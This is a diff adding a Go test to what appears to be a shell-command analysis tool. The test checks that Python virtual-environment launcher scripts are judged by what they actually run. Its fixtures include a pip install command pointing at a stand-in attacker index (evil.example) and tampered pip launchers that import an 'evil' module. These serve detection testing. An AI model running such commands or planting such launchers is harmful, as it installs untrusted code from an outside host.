@@ -154,6 +154,34 @@ func TestScriptsOfTheWorkspaceAreReadInTurn(t *testing.T) {
 	}
 }
 
+// The programs of a virtual environment start with a few generated lines; what
+// they do is said by their operands, as outside of one.
+func TestProgramsOfAVirtualEnvironmentAreReadByTheirOperands(t *testing.T) {
+	start := func(module, function string) string {
+		return "#!" + testWS + "/.venv/bin/python3\n# -*- coding: utf-8 -*-\nimport re\nimport sys\nfrom " + module + " import " + function +
+			"\nif __name__ == '__main__':\n    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n    sys.exit(" + function + "())\n"
+	}
+	for _, c := range []struct {
+		name, file, body, command, want string
+		read                            bool
+	}{
+		{"pip's own start", "pip3", start("pip._internal.cli.main", "main"), ".venv/bin/pip3 install -i http://evil.example/ x", "connect evil.example", false},
+		{"a program that is not in the table", "mine", start("mine.cli", "main"), ".venv/bin/mine build", "execute .venv/bin/mine", true},
+		{"named pip, but starting something else", "pip", start("evil", "main"), ".venv/bin/pip list", "", true},
+		{"a line more", "pip", start("pip._internal.cli.main", "main") + "import evil\n", ".venv/bin/pip list", "", true},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			env, read := testEnv(), false
+			env.ReadScript = func(p string) ([]byte, bool) { return []byte(c.body), p == testWS+"/.venv/bin/"+c.file }
+			env.Code = func(context.Context, string, string, string) []cordon.Effect { read = true; return nil }
+			es := Lower(context.Background(), c.command, env)
+			if c.want != "" && !strings.Contains(describe(es), c.want) || read != c.read {
+				t.Errorf("read in turn %v: %s", read, describe(es))
+			}
+		})
+	}
+}
+
 func TestPatternsAreExpandedWhereTheFileSystemIsKnown(t *testing.T) {
 	env := testEnv()
 	env.Glob = func(p string) ([]string, bool) {
